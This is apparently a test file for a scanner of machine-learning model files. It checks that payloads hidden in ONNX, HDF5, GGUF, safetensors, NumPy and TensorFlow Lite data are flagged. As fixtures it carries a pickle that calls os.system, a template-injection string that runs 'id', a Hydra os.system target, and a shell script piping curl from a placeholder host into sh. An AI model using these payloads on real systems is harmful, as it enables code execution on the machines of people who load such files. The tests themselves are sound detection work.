/** What a format carries among its own bytes: texts and numbers that spell out something to load. Payloads are inert. */
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { concat, field, ggufFile, onnxFile, safetensorsFile, utf8 } from '../support/builders.js';
import { addressOf, dataset, hardLink, hdf5File, linkInfo, textAttribute } from '../support/hdf5.js';
import { HARMLESS, PAYLOAD } from '../support/scan/archives.js';
import { scanBytes } from '../support/scan/scan.js';
import { tfliteFile } from '../support/tflite.js';

const base64 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64');
const hex = (bytes: Uint8Array): string => Buffer.from(bytes).toString('hex');
const wide = (bytes: Uint8Array, width: number): Uint8Array => {
  const out = new Uint8Array(bytes.length * width);
  bytes.forEach((byte, i) => {
    out[i * width] = byte;
  });
  return out;
};

/** Texts, each malicious by itself. */
const TEXTS: Readonly<Record<string, string>> = {
  base64: base64(PAYLOAD),
  hexadecimal: hex(PAYLOAD),
  'a list of numbers': JSON.stringify([...PAYLOAD]),
  'a pickle of protocol 0': "cposix\nsystem\n(S'echo x'\ntR.",
  'a template': "{{ message }}{{ ''.__class__.__mro__[1].__subclasses__()[132]('id') }}",
  'a target of Hydra': JSON.stringify({ a: { _target_: 'os.system', command: 'x' } }),
  'compressed base64': base64(deflateSync(PAYLOAD)),
};
/** Bytes, each malicious by itself. */
const BYTES: Readonly<Record<string, Uint8Array>> = {
  'a pickle': PAYLOAD,
  'a compressed pickle': deflateSync(PAYLOAD),
  'a pickle in numbers of two bytes': wide(PAYLOAD, 2),
  'a pickle in numbers of four bytes': wide(PAYLOAD, 4),
  'a pickle in numbers of eight bytes': wide(PAYLOAD, 8),
  'a compressed pickle in numbers of four bytes': wide(deflateSync(PAYLOAD), 4),
  'a text of base64': utf8(base64(PAYLOAD)),
  'a pickle in letters': utf8(String.fromCharCode(...PAYLOAD)),
};

const npy = (bytes: Uint8Array): Uint8Array => {
  const header = `{'descr': '|u1', 'fortran_order': False, 'shape': (${bytes.length},), }`.padEnd(117).concat('\n');
  return concat(Uint8Array.of(0x93), utf8('NUMPY'), Uint8Array.of(1, 0, header.length, 0), utf8(header), bytes);
};
const attribute = (...fields: readonly Uint8Array[]): Uint8Array => field(7, concat(field(1, field(5, concat(...fields)))));

const TEXT_CARRIERS: Readonly<Record<string, (text: string) => Uint8Array>> = {
  'a description in ONNX': (text) => onnxFile(field(6, text)),
  'metadata of ONNX': (text) => onnxFile(field(14, concat(field(1, 'note'), field(2, text)))),
  'an attribute of an operator of ONNX': (text) => onnxFile(attribute(field(1, 's'), field(4, text))),
  'an attribute of HDF5': (text) => hdf5File([[textAttribute('note', text)]]),
  'a text of GGUF': (text) => ggufFile({ metadata: [['note', 8, text]] }),
  'a key of GGUF': (text) => ggufFile({ metadata: [[text, 8, 'note']] }),
  'metadata of safetensors': (text) => safetensorsFile({ __metadata__: { note: text } }, 0),
  'the name of a tensor of safetensors': (text) => safetensorsFile({ [text]: { dtype: 'U8', shape: [4], data_offsets: [0, 4] } }, 4),
};
const BYTE_CARRIERS: Record<string, (bytes: Uint8Array) => Uint8Array> = {
  'a tensor of ONNX': (bytes) => onnxFile(field(7, field(5, concat(field(1, bytes.length), field(2, 2), field(9, bytes))))),
  'numbers of an operator of ONNX': (bytes) => onnxFile(attribute(field(1, 'i'), ...[...bytes].map((byte) => field(8, byte)))),
  'an array of NumPy': npy,
  'a tensor of safetensors': (bytes) =>
    concat(
      safetensorsFile({ a: { dtype: 'U8', shape: [bytes.length], data_offsets: [0, bytes.length] } }, bytes.length).slice(0, -bytes.length),
      bytes,
    ),
};

/** Numbers of four bytes hold a whole number of these. */
const padded = (bytes: Uint8Array): Uint8Array => concat(bytes, new Uint8Array(-bytes.length & 3));
const hdf5 = (bytes: Uint8Array, shape = bytes.length >> 2): Uint8Array =>
  hdf5File([[linkInfo(), hardLink('w', 1)], dataset([shape], addressOf(2), bytes.length)], bytes);
const tflite = (bytes: Uint8Array, shape = bytes.length): Uint8Array =>
  tfliteFile({ tensors: [{ name: 'w', shape: [shape], type: 3, buffer: 1 }], buffers: [new Uint8Array(), bytes], operators: [0] });
BYTE_CARRIERS['a dataset of HDF5'] = (bytes) => hdf5(padded(bytes));
BYTE_CARRIERS['a buffer of TensorFlow Lite'] = (bytes) => tflite(bytes);

describe('numbers in files that cannot be read', () => {
  for (const [what, bytes] of Object.entries(BYTES))
    it(`are looked through: ${what}`, async () => {
      for (const file of [hdf5(padded(bytes), 10_000), tflite(bytes, 10_000)])
        expect(await scanBytes(file, 'model.bin')).toMatchObject({ verdict: 'malicious', status: 'incomplete' });
    });
});

describe('texts that spell out something', () => {
  for (const [carrier, make] of Object.entries(TEXT_CARRIERS))
    for (const [what, text] of Object.entries(TEXTS))
      it(`${carrier}: ${what}`, async () => expect(await scanBytes(make(text), 'model.bin')).toMatchObject({ verdict: 'malicious' }));
});

describe('numbers that spell out something', () => {
  for (const [carrier, make] of Object.entries(BYTE_CARRIERS))
    for (const [what, bytes] of Object.entries(BYTES))
      if (!(carrier.startsWith('numbers of') && what.includes('numbers of')))
        it(`${carrier}: ${what}`, async () => expect(await scanBytes(make(bytes), 'model.bin')).toMatchObject({ verdict: 'malicious' }));
});

describe('what is carried and harmless', () => {
  const harmless = ['a note', base64(HARMLESS), '{{ message }}', 'c\nd\n', 'gAJ', '78da', '#! a note', '{"class_name": "Dense"}'];
  for (const [carrier, make] of Object.entries(TEXT_CARRIERS))
    it(`${carrier} is no alarm`, async () => {
      for (const text of harmless) expect(await scanBytes(make(text)), text).toMatchObject({ verdict: 'clean', status: 'complete' });
    });

  it('random numbers are data', async () => {
    let seed = 1;
    const bytes = Uint8Array.from({ length: 300_000 }, () => {
      seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
      return seed >>> 24;
    });
    for (const make of [npy, BYTE_CARRIERS['a tensor of ONNX'] ?? npy, hdf5, tflite])
      expect(await scanBytes(make(bytes))).toMatchObject({ verdict: 'clean', status: 'complete', findings: [] });
  });
});

describe('programs', () => {
  it('are told, and not judged', async () => {
    const program = concat(Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1), new Uint8Array(57));
    const { verdict, findings } = await scanBytes(npy(program));
    expect(verdict).toBe('suspicious');
    expect(findings.map(({ rule, member }) => `${rule} ${member}`)).toContain('native-code carried@128');
  });

  it('of a shell are judged as such', async () => {
    const script = utf8('#!/bin/sh\ncurl http://x.example/a | sh\n');
    expect((await scanBytes(npy(script))).verdict).not.toBe('clean');
  });
});
